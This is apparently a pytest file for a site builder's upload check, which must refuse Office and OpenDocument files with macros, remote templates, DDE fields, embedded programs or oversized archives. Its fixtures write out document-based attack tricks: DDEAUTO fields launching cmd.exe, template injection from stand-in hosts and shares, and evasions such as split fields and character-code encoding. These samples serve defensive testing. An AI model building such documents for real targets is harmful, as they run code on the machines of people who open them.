"""Office documents in which something runs are refused, however its parts are called; others are not."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from pathlib import Path

import pytest

from cjmsite.media.derive import derive
from cjmsite.media.office.archive import MOST_PARTS, MOST_UNPACKED
from cjmsite.pipeline import Request, build
from cjmsite.publishable.forms import FORMS, PROGRAMS_WITHIN
from tests.media.packages import NAMES, docx, opened, pptx, relations, row, shape, slide, xlsx

Parts = Mapping[str, str | bytes]
PAR = "<w:p><w:r><w:t>words</w:t></w:r></w:p>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
PACKED = OLE + "\x01Ole10Native".encode("utf-16-le")
SAVED = "MIME-Version: 1.0\nContent-Type: text/html\n\n<p>"


BEGIN, END = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def written(piece: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'


def fields(*pieces: str) -> str:
    return f"<w:p>{BEGIN}{''.join(map(written, pieces))}{END}</w:p>"


def part(inner: str) -> str:
    return f"<w:hdr {NAMES}>{inner}</w:hdr>"


def zipped(parts: Parts) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def beside(name: str, content: str | bytes, kind: str, to: str = "") -> Parts:
    """A text with a part beside it that it names by a relation of a kind."""
    return {**docx(PAR, {"x": f"{kind} {to or name}"}), f"word/{name}": content}


def outside(kind: str, target: str) -> Parts:
    return {**docx(PAR), "word/_rels/document.xml.rels": listed_outside(kind, target)}


def listed_outside(kind: str, target: str) -> str:
    return relations({"x": f"{kind} {target}"}).replace("/></", ' TargetMode="External"/></')


def listened(script: str) -> Parts:
    return opened("text", f"<text:p>words</text:p>{script}")


def counted(formula: str) -> Parts:
    cell = f'<table:table-cell table:formula="{formula}"/>'
    return opened("spreadsheet", f'<table:table table:name="a"><table:table-row>{cell}</table:table-row></table:table>')


def pressed(action: str) -> str:
    return shape("a", f'><a:hlinkClick r:id="" action="ppaction://{action}"/></p:cNvPr').replace(
        "/></p:nvSpPr>", "></p:nvSpPr>"
    )


RUNS: dict[str, tuple[str, Parts]] = {
    "a macro project under another name": ("macros", beside("a.bin", OLE, "vbaProject")),
    "a macro project that is no XML part": ("macros", beside("media/a.png", b"\x89PNG", "vbaProject")),
    "a macro sheet under another name": (
        "macros",
        {**xlsx(row(1, "a")), "xl/foo.xml": "<xm:macrosheet/>", "xl/_rels/workbook.xml.rels": relations(
            {"r1": "worksheet worksheets/sheet1.xml", "r2": "xlMacrosheet foo.xml"},
            types="http://schemas.microsoft.com/office/2006/relationships",
        )},
    ),
    "a kind of part with macros": (
        "macros",
        {**docx(PAR), "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" '
         'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'},
    ),
    "a template at an address": ("calls", outside("attachedTemplate", "http://h.example/x.dotm")),
    "a template on a share": ("calls", outside("attachedTemplate", "file://\\\\h\\x.dotm")),
    "a template on a share by its name": ("calls", outside("attachedTemplate", "\\\\h.example\\x.dotm")),
    **{f"a template that a list in {folder} names": (
        "calls", {**docx(PAR), f"word/{folder}/settings.xml.rels": listed_outside("attachedTemplate", "http://h/x.dotm")}
    ) for folder in ("_rels", "_RELS", "_Rels")},
    "a template that a list names whose folder is written with the other slash": (
        "calls", {**docx(PAR), "word\\_RELS\\settings.xml.RELS": listed_outside("attachedTemplate", "http://h/x.dotm")}
    ),
    "a kind of part with macros in a list written small": (
        "macros",
        {**docx(PAR), "[content_types].xml": '<Types><Override PartName="/word/document.xml" '
         'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'},
    ),
    **{f"a template at {share}": ("calls", outside("attachedTemplate", share)) for share in (
        "file:////h/s/x.dotm", "file:\\\\h\\x.dotm", "file:\\\\\\\\h\\x.dotm", "file:///\\\\h\\x.dotm", "FILE://h/s/x.dotm",
        "file:///%5C%5Ch/x.dotm", "////h/s/x.dotm", "file://///h/s/x.dotm",
    )},
    **{f"a field {field}": ("calls", docx(PAR + fields(field))) for field in (
        ' INCLUDETEXT "https://h.example/a.docx" ', " INCLUDETEXT file:////h/a.docx ",
        ' LINK Excel.Sheet.12 "\\\\\\\\h\\\\a.xlsx" "R1C1:R2C2" \\a ', ' LINK Word.Document "\\\\h\\a.docx" \\a ',
    )},
    "an object at an address": ("calls", outside("oleObject", "mhtml:http://h.example/x!x-usc:http://h.example")),
    "a frame at an address": ("calls", outside("frame", "https://h.example/x.html")),
    "a field that starts a program": ("calls", docx(PAR + fields(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))),
    "a field in pieces": ("calls", docx(PAR + fields(" PAGE ") + fields("D", "DEAU", 'TO "cmd" "/k calc"'))),
    "a field in one": ("calls", docx('<w:p><w:fldSimple w:instr=" DDE cmd x "/></w:p>')),
    "a field in a header": ("calls", {**docx(PAR), "word/h.xml": part(fields(" dde cmd x "))}),
    "a field of letters by their numbers": ("calls", docx(PAR + fields("&#68;DEAUTO cmd x"))),
    "a field in a part of no known name": ("calls", {**docx(PAR), "word/a.dat": part(fields("DDE cmd x"))}),
    "a field in a field": (
        "calls", docx(f"<w:p>{BEGIN}{written('IF 1=1 ')}{BEGIN}{written('DDE cmd')}{END}{written(' a')}{END}</w:p>")
    ),
    "a link of a spreadsheet": (
        "calls", {**xlsx(row(1, "a")), "xl/a.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    ),
    "a text (rtf) that starts a program within": (
        "calls", {**docx(PAR), "word/a.bin": rb"{\rtf1{\field{\*\fldinst DDE cmd x}}}"}
    ),
    "a web page within": ("embeds", beside("a.html", "<html><script>1</script></html>", "aFChunk")),
    "a web page within, called a text": ("embeds", beside("a.txt", "<html><body>a</body></html>", "aFChunk")),
    "a saved web page within": ("embeds", beside("a.mht", SAVED, "aFChunk")),
    "a packed program": ("embeds", beside("embeddings/a.bin", PACKED, "oleObject")),
    "a program": ("embeds", beside("embeddings/a.bin", b"MZ\0\1", "package")),
    "a program on a slide": ("embeds", {**pptx(slide(shape("a"))), "ppt/media/a.wav": b"\x7fELF\2"}),
    "a document with macros within": (
        "macros", beside("embeddings/a.xlsx", zipped({"xl/vbaProject.bin": b""}), "package")
    ),
    "a script that an event calls": ("macros", listened('<script:event-listener xmlns:script="s"/>')),
    "a script that a link calls": ("macros", listened('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>')),
    "a script whose address is written by numbers": (
        "macros", listened('<text:a xlink:href="vnd.sun.star&#46;script:a?language=Basic"/>')
    ),
    "a script in it": ("macros", listened('<office:scripts><office:script language="x"/></office:scripts>')),
    "a program that a slide starts": ("calls", pptx(slide(pressed("program")))),
    "a macro that a slide starts": ("calls", pptx(slide(pressed("macro?name=a")))),
    "a program that a slide of an OpenDocument starts": (
        "calls", listened('<presentation:event-listener presentation:action="execute"/>')
    ),
    "a link of an OpenDocument": ("calls", listened('<office:dde-source office:dde-application="cmd"/>')),
    "a formula of an OpenDocument": ("calls", counted("of:=1+DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;a&quot;)")),
    "a program in an OpenDocument": ("embeds", {**opened("text", "<text:p>a</text:p>"), "Object 1": b"MZ\0\1"}),
}  # fmt: skip
QUIET: dict[str, Parts] = {
    "a template on a machine": outside("attachedTemplate", "file:///C:\\Users\\bob\\x.dotx"),
    "a link": outside("hyperlink", "https://h.example/"),
    "a linked picture": outside("image", "https://h.example/x.png"),
    "fields": docx(PAR + fields(" PAGE ") + fields(' HYPERLINK "https://h.example/#DDE" ') + fields(" TOC ADDED x ")),
    "words about it": docx("<w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p>"),
    "an entry of an index about it": docx(PAR + fields(' XE "how DDE works" ')),
    "a linked text": docx(PAR + fields(' INCLUDETEXT "a.docx" ')),
    "linked cells": docx(PAR + fields(' LINK Excel.Sheet.12 "C:\\\\bob\\\\a.xlsx" R1C1:R2C2 \\a \\\\* CHARFORMAT ')),
    "a picture of a field": docx(PAR + fields(' INCLUDEPICTURE "https://h.example/a.png" \\* MERGEFORMATINET ')),
    "a template beside its text": outside("attachedTemplate", "../a.dotx"),
    "a template on a machine with plain slashes": outside("attachedTemplate", "file:///C:/Users/bob/x%20y.dotx"),
    "a spreadsheet within": beside("embeddings/a.xlsx", zipped(xlsx(row(1, "a"))), "package"),
    "an equation within": beside("embeddings/a.bin", OLE + "Equation Native".encode("utf-16-le"), "oleObject"),
    "a text within": beside("a.txt", "words and more words", "aFChunk"),
    "a document within": beside("a.docx", zipped(docx(PAR)), "aFChunk"),
    "a kind that no part has": {**docx(PAR), "[Content_Types].xml": '<Types><Default Extension="bin" '
                                'ContentType="application/vnd.ms-office.vbaProject"/></Types>'},
    "a way to another slide": pptx(slide(pressed("hlinksldjump"))),
    "a link to another OpenDocument": listened('<office:dde-source office:dde-application="soffice"/>'),
    "a formula with another OpenDocument": counted("of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)"),
    "a formula of other names": counted("of:=ADDED(1)"),
    "an empty list of scripts": listened("<office:scripts/>"),
    "a link of another workbook": {
        **xlsx(row(1, "a")), "xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>"},
}  # fmt: skip


def told_of(path: Path, data: bytes) -> list[tuple[str, str]]:
    path.write_bytes(data)
    return [(one.code, one.message) for one in derive(str(path), path.suffix[1:]).derived.findings]


def ending_of(parts: Parts) -> str:
    opened_as = "ods" if "<office:spreadsheet>" in str(parts.get("content.xml")) else "odt"
    kinds = {"word/": "docx", "xl/": "xlsx", "ppt/": "pptx"}
    return next((kinds[start] for start in kinds if any(name.startswith(start) for name in parts)), opened_as)


@pytest.mark.parametrize("case", RUNS)
def test_a_document_in_which_something_runs_is_told_by_how_also_under_another_ending(case: str, tmp_path: Path) -> None:
    form, parts = RUNS[case]
    told = [("active-file", f"this file is not published: it is {FORMS[form].words}")]
    for ending in (ending_of(parts), "zip"):
        assert told_of(tmp_path / f"a.{ending}", zipped(parts)) == told
    assert form in PROGRAMS_WITHIN


@pytest.mark.parametrize("case", QUIET)
def test_a_document_in_which_nothing_runs_is_let_through(case: str, tmp_path: Path) -> None:
    parts = QUIET[case]
    assert told_of(tmp_path / "a.zip", zipped(parts)) == []
    codes = {code for code, _ in told_of(tmp_path / f"a.{ending_of(parts)}", zipped(parts))}
    assert codes <= {"file-traces"}


def test_an_archive_that_nobody_can_look_into_is_refused(tmp_path: Path) -> None:
    locked = bytearray(zipped({"a.bin": b"words", **docx(PAR)}))
    listed = locked.index(b"PK\x01\x02")
    locked[6] |= 1  # a password, said before the part and in the list of all
    locked[listed + 8] |= 1
    parts = io.BytesIO()
    with zipfile.ZipFile(parts, "w") as archive:
        for number in range(MOST_PARTS + 1):
            archive.writestr(str(number), "")
    large = bytearray(zipped({str(number): b"x" for number in range(5)}))
    at = -1
    while (at := large.find(b"PK\x01\x02", at + 1)) >= 0:
        large[at + 24 : at + 28] = (MOST_UNPACKED // 4).to_bytes(4, "little")  # what it claims to unpack to
    for ending in ("zip", "docx"):
        for code, data in (
            ("broken-document", locked), ("document-too-large", parts.getvalue()), ("document-too-large", large)
        ):  # fmt: skip
            assert [one for one, _ in told_of(tmp_path / f"a.{ending}", bytes(data))] == [code]


def test_it_is_not_published_and_its_author_is_told_what_to_do(tmp_path: Path) -> None:
    page = tmp_path / "hub" / "content" / "pages" / "a"
    page.mkdir(parents=True)
    (tmp_path / "hub" / "cjmsite.yaml").write_text("title: Small\nattachments: {allow: [doc, mov, sketch, zip]}\n")
    (page / "index.md").write_text("Words.\n")
    starting = rb"{\rtf1{\field{\*\fldinst DDEAUTO cmd x}}}"
    files = {
        "a.docx": ("calls", zipped(RUNS["a template at an address"][1])),
        "b.docx": ("macros", zipped(RUNS["a macro project under another name"][1])),
        "c.docx": ("embeds", zipped(RUNS["a program"][1])),
        "d.zip": ("embeds", zipped(RUNS["a program"][1])),
        "e.sketch": ("macros", zipped(RUNS["a macro project under another name"][1])),
        "f.mov": ("macros", zipped(RUNS["a macro project under another name"][1])),
        "g.rtf": ("calls", starting),
        "h.doc": ("calls", starting),
        "i.doc": ("macros", OLE + "_VBA_PROJECT".encode("utf-16-le")),
        "j.zip": ("calls", zipped({"a.rtf": starting})),
    }
    for name, (_, data) in files.items():
        (page / name).write_bytes(data)
    (page / "quiet.doc").write_bytes(OLE)
    (page / "quiet.rtf").write_bytes(rb"{\rtf1 DDEAUTO cmd}")
    (page / "quiet.zip").write_bytes(zipped({"a.rtf": rb"{\rtf1 DDEAUTO cmd}"}))
    outcome = build(Request(tmp_path / "hub", tmp_path / "out"))
    told = [one for one in outcome.problems if one.level == "error"]
    assert {one.file.rpartition("/")[2]: one.message for one in told} == {
        name: f"this file is not published: it is {FORMS[form].words}" for name, (form, _) in files.items()
    }
    assert all(one.hint and one.code == "active-file" for one in told)
    assert not (tmp_path / "out").exists()
